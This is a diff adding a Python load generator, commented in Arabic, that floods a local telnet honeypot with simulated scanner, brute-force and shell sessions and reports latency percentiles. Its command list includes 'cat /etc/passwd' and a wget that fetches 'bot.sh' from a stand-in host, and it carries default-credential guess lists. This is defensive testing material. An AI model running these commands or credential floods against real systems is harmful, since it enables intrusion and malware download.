@@ -0,0 +1,299 @@
+#!/usr/bin/env python3
+# -*- coding: utf-8 -*-
+"""
+Interactive Honeypot Data Analyzer
+مشروع محلل بيانات مصيدة التسلل التفاعلي
+
+مولّد حمل لقياس سعة المصيدة: آلاف الجلسات المتزامنة بمعدل وصول محدد ومزيج
+من أنواع المهاجمين، مع زمن الاتصال والشعار وكل أمر (p50/p90/p99) ونسبة الأخطاء
+
+الاستخدام:
+    python load_generator.py --sessions 5000 --concurrency 1000 --rate 500
+    python load_generator.py --sessions 20000 --processes 4 --mix scanner=2,bruteforce=3,shell=5 --json result.json
+"""
+
+import argparse
+import asyncio
+import collections
+import json
+import multiprocessing
+import random
+import time
+from typing import Dict, Any, List, Optional, Tuple
+
+from benchmarks import percentile
+
+# نهايات الردود المتوقعة من المصيدة (انظر TelnetSession.handle_input)
+PROMPTS = (b"$ ", b"Password: ", b"login: ")
+
+USERNAMES = ["admin", "root", "user", "test", "guest", "pi", "ubuntu", "oracle", "support"]
+PASSWORDS = ["123456", "password", "admin", "root", "12345", "qwerty", "letmein", "default"]
+SHELL_COMMANDS = ["ls", "whoami", "pwd", "uname -a", "cat /etc/passwd", "cd /tmp", "ls -la",
+                  "ps aux", "wget http://198.51.100.7/bot.sh", "echo ok"]
+
+DEFAULT_MIX = {"scanner": 0.3, "bruteforce": 0.4, "shell": 0.3}
+
+def parse_mix(text: str) -> Dict[str, float]:
+    """
+    "scanner=2,bruteforce=3,shell=5" -> أوزان نسبية
+    """
+    mix = {}
+    for part in text.split(","):
+        name, _, weight = part.partition("=")
+        name = name.strip()
+        if name not in DEFAULT_MIX:
+            raise ValueError(f"نوع جلسة غير معروف: {name}")
+        mix[name] = float(weight or 1)
+    return mix
+
+def build_script(kind: str, rng: random.Random) -> List[str]:
+    """
+    الأسطر التي ترسلها الجلسة بعد الشعار
+    """
+    if kind == "scanner":
+        return []
+    if kind == "bruteforce":
+        # ثلاث محاولات فاشلة: المصيدة تغلق الاتصال بعدها
+        lines = []
+        for _ in range(3):
+            lines.append(rng.choice(["guest", "test", "oracle", "support", "pi"]))
+            lines.append(rng.choice(["qwerty", "letmein", "default", "12345"]))
+        return lines
+    lines = ["root", rng.choice(PASSWORDS[:3])]
+    lines.extend(rng.choice(SHELL_COMMANDS) for _ in range(rng.randint(2, 8)))
+    lines.append("exit")
+    return lines
+
+class Results:
+    """
+    نتائج عملية واحدة (تُدمج نتائج العمليات في النهاية)
+    """
+
+    def __init__(self):
+        self.started = 0
+        self.completed = 0
+        self.failed = 0
+        self.by_kind: Dict[str, int] = collections.Counter()
+        self.errors: Dict[str, int] = collections.Counter()
+        self.latencies: Dict[str, List[float]] = collections.defaultdict(list)
+
+    def to_dict(self) -> Dict[str, Any]:
+        return {
+            "started": self.started,
+            "completed": self.completed,
+            "failed": self.failed,
+            "by_kind": dict(self.by_kind),
+            "errors": dict(self.errors),
+            "latencies": dict(self.latencies)
+        }
+
+    def merge(self, other: Dict[str, Any]):
+        self.started += other["started"]
+        self.completed += other["completed"]
+        self.failed += other["failed"]
+        self.by_kind.update(other["by_kind"])
+        self.errors.update(other["errors"])
+        for key, values in other["latencies"].items():
+            self.latencies[key].extend(values)
+
+async def _read_response(reader: asyncio.StreamReader) -> bytes:
+    buffer = b""
+    while not buffer.endswith(PROMPTS):
+        chunk = await reader.read(4096)
+        if not chunk:
+            break
+        buffer += chunk
+    return buffer
+
+async def run_session(host: str, port: int, kind: str, rng: random.Random,
+                      results: Results, timeout: float, think_time: float):
+    """
+    جلسة واحدة: اتصال، شعار، ثم أسطر السيناريو مع قياس زمن كل رد
+    """
+    results.started += 1
+    results.by_kind[kind] += 1
+    writer = None
+    step = "connect"
+    try:
+        started = time.perf_counter()
+        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), timeout)
+        connected = time.perf_counter()
+        results.latencies["connect"].append(connected - started)
+
+        step = "banner"
+        banner = await asyncio.wait_for(_read_response(reader), timeout)
+        if not banner:
+            raise ConnectionError("eof")
+        results.latencies["banner"].append(time.perf_counter() - connected)
+
+        logged_in = False
+        for line in build_script(kind, rng):
+            if think_time:
+                await asyncio.sleep(rng.uniform(0, 2 * think_time))
+            step = "command" if logged_in else "login"
+            sent = time.perf_counter()
+            writer.write(line.encode('utf-8') + b"\r\n")
+            response = await asyncio.wait_for(_read_response(reader), timeout)
+            results.latencies[step].append(time.perf_counter() - sent)
+            if step == "login" and response.startswith(b"Last login"):
+                logged_in = True
+            if not response.endswith(PROMPTS):
+                break  # exit أو إغلاق بعد محاولات فاشلة
+        results.completed += 1
+    except asyncio.TimeoutError:
+        results.failed += 1
+        results.errors[f"{step}_timeout"] += 1
+    except ConnectionRefusedError:
+        results.failed += 1
+        results.errors["connect_refused"] += 1
+    except (ConnectionError, OSError) as e:
+        results.failed += 1
+        results.errors[f"{step}_{type(e).__name__}"] += 1
+    finally:
+        if writer is not None:
+            writer.close()
+
+async def run_load(host: str, port: int, sessions: int, concurrency: int, rate: float,
+                   mix: Dict[str, float], timeout: float = 10.0, think_time: float = 0.0,
+                   seed: int = 1) -> Results:
+    """
+    تشغيل sessions جلسة بحد أقصى concurrency متزامنة ومعدل وصول rate جلسة/ثانية (0 = بلا حد)
+    """
+    rng = random.Random(seed)
+    kinds = list(mix)
+    weights = [mix[k] for k in kinds]
+    results = Results()
+    semaphore = asyncio.Semaphore(concurrency)
+
+    async def limited(kind: str, session_rng: random.Random):
+        try:
+            await run_session(host, port, kind, session_rng, results, timeout, think_time)
+        finally:
+            semaphore.release()
+
+    tasks = []
+    started = time.perf_counter()
+    for i in range(sessions):
+        if rate:
+            delay = started + i / rate - time.perf_counter()
+            if delay > 0:
+                await asyncio.sleep(delay)
+        await semaphore.acquire()
+        kind = rng.choices(kinds, weights)[0]
+        tasks.append(asyncio.ensure_future(limited(kind, random.Random(rng.random()))))
+    await asyncio.gather(*tasks)
+    return results
+
+def _process_main(args: Tuple, output: multiprocessing.Queue):
+    results = asyncio.run(run_load(*args))
+    output.put(results.to_dict())
+
+def summarize(results: Results, duration: float, config: Dict[str, Any]) -> Dict[str, Any]:
+    latency = {}
+    for key in ("connect", "banner", "login", "command"):
+        values = results.latencies.get(key, [])
+        if not values:
+            continue
+        latency[key] = {
+            "count": len(values),
+            "mean_ms": sum(values) / len(values) * 1000,
+            "p50_ms": percentile(values, 50) * 1000,
+            "p90_ms": percentile(values, 90) * 1000,
+            "p99_ms": percentile(values, 99) * 1000,
+            "max_ms": max(values) * 1000
+        }
+    return {
+        "config": config,
+        "duration_sec": duration,
+        "sessions_started": results.started,
+        "sessions_completed": results.completed,
+        "sessions_failed": results.failed,
+        "sessions_per_sec": results.completed / duration if duration else 0.0,
+        "error_rate": results.failed / results.started if results.started else 0.0,
+        "errors": dict(results.errors),
+        "by_kind": dict(results.by_kind),
+        "latency": latency
+    }
+
+def run(host: str = "127.0.0.1", port: int = 2323, sessions: int = 1000, concurrency: int = 200,
+        rate: float = 0.0, mix: Optional[Dict[str, float]] = None, processes: int = 1,
+        timeout: float = 10.0, think_time: float = 0.0, seed: int = 1) -> Dict[str, Any]:
+    """
+    تشغيل الحمل (على عدة عمليات إن طُلب) وإعادة الملخص
+    """
+    mix = mix or DEFAULT_MIX
+    config = {
+        "host": host, "port": port, "sessions": sessions, "concurrency": concurrency,
+        "rate": rate, "mix": mix, "processes": processes, "timeout": timeout,
+        "think_time": think_time
+    }
+    results = Results()
+    started = time.perf_counter()
+
+    if processes <= 1:
+        results = asyncio.run(run_load(host, port, sessions, concurrency, rate, mix,
+                                       timeout, think_time, seed))
+    else:
+        # تقسيم الجلسات والتزامن ومعدل الوصول بالتساوي على العمليات
+        output = multiprocessing.Queue()
+        workers = []
+        for index in range(processes):
+            share = sessions // processes + (1 if index < sessions % processes else 0)
+            args = (host, port, share, max(1, concurrency // processes), rate / processes,
+                    mix, timeout, think_time, seed + index)
+            worker = multiprocessing.Process(target=_process_main, args=(args, output))
+            worker.start()
+            workers.append(worker)
+        for _ in workers:
+            results.merge(output.get())
+        for worker in workers:
+            worker.join()
+
+    return summarize(results, time.perf_counter() - started, config)
+
+def print_summary(summary: Dict[str, Any]):
+    print(f"sessions:   {summary['sessions_completed']:,} completed, {summary['sessions_failed']:,} failed "
+          f"({summary['error_rate'] * 100:.2f}%) in {summary['duration_sec']:.1f} s")
+    print(f"throughput: {summary['sessions_per_sec']:,.1f} sessions/sec")
+    print(f"{'latency':<10}{'count':>9}{'p50 ms':>10}{'p90 ms':>10}{'p99 ms':>10}{'max ms':>10}")
+    for key, stats in summary["latency"].items():
+        print(f"{key:<10}{stats['count']:>9}{stats['p50_ms']:>10.2f}{stats['p90_ms']:>10.2f}"
+              f"{stats['p99_ms']:>10.2f}{stats['max_ms']:>10.2f}")
+    if summary["errors"]:
+        print("errors:     " + ", ".join(f"{k}={v}" for k, v in sorted(summary["errors"].items())))
+
+def main(argv=None):
+    parser = argparse.ArgumentParser(description="Honeypot load generator")
+    parser.add_argument("--host", default="127.0.0.1")
+    parser.add_argument("--port", type=int, default=2323)
+    parser.add_argument("--sessions", type=int, default=1000, help="إجمالي الجلسات")
+    parser.add_argument("--concurrency", type=int, default=200, help="الحد الأقصى للجلسات المتزامنة")
+    parser.add_argument("--rate", type=float, default=0.0, help="معدل وصول الجلسات/ثانية (0 = بلا حد)")
+    parser.add_argument("--mix", default=None, help="مثال: scanner=3,bruteforce=4,shell=3")
+    parser.add_argument("--processes", type=int, default=1, help="عدد عمليات العميل")
+    parser.add_argument("--timeout", type=float, default=10.0, help="مهلة كل خطوة بالثواني")
+    parser.add_argument("--think-time", type=float, default=0.0, help="متوسط الانتظار بين الأسطر بالثواني")
+    parser.add_argument("--seed", type=int, default=1)
+    parser.add_argument("--json", default=None, metavar="PATH", help="حفظ النتائج بصيغة JSON ('-' للطباعة)")
+    args = parser.parse_args(argv)
+
+    # حد الملفات المفتوحة يحدّ عدد الاتصالات المتزامنة من جهة العميل أيضاً
+    from honeypot_main import raise_open_files_limit
+    raise_open_files_limit()
+
+    summary = run(args.host, args.port, args.sessions, args.concurrency, args.rate,
+                  parse_mix(args.mix) if args.mix else None, args.processes,
+                  args.timeout, args.think_time, args.seed)
+
+    if args.json == "-":
+        print(json.dumps(summary, indent=2))
+        return summary
+    print_summary(summary)
+    if args.json:
+        with open(args.json, 'w', encoding='utf-8') as f:
+            json.dump(summary, f, indent=2)
+        print(f"[SUCCESS] تم حفظ النتائج في: {args.json}")
+    return summary
+
+if __name__ == "__main__":
+    main()